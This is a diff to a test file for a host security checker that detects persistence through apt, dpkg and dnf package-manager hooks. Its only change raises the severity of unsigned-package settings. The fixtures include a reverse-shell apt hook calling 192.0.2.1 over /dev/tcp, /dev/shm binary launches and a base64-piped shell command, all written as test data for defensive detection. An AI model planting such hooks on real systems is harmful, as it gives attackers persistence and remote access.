@@ -27,7 +27,7 @@ describe.each<[HostCheck, readonly (readonly [string, Machine, readonly string[]
 			}, []],
 			['a hook of apt', { '/etc/apt/apt.conf.d/99x': 'APT::Update::Post-Invoke-Success {"nohup /dev/shm/x >/dev/null 2>&1 &";};\n' }, ['high /etc/apt/apt.conf.d/99x']],
 			['one that calls home', { '/etc/apt/apt.conf.d/99x': 'APT::Update::Pre-Invoke {"bash -c \'bash -i >& /dev/tcp/192.0.2.1/4 0>&1\' &";};\n' }, ['critical /etc/apt/apt.conf.d/99x']],
-			['unsigned packages', { '/etc/apt/apt.conf': 'APT::Get::AllowUnauthenticated "true";\n' }, ['low /etc/apt/apt.conf']],
+			['unsigned packages', { '/etc/apt/apt.conf': 'APT::Get::AllowUnauthenticated "true";\n' }, ['medium /etc/apt/apt.conf']],
 			['dpkg', { '/etc/dpkg/dpkg.cfg.d/x': 'post-invoke=/dev/shm/x\n' }, ['high /etc/dpkg/dpkg.cfg.d/x']],
 			['a script of a package', { '/var/lib/dpkg/info/x.postinst': script('echo c3NoLWtleQ== | base64 -d | sh') }, ['high /var/lib/dpkg/info/x.postinst']],
 			['dnf', { '/usr/lib/python3.9/site-packages/dnf-plugins/x.py': 'import os\nos.system("/dev/shm/x")\n' }, ['high /usr/lib/python3.9/site-packages/dnf-plugins/x.py']],
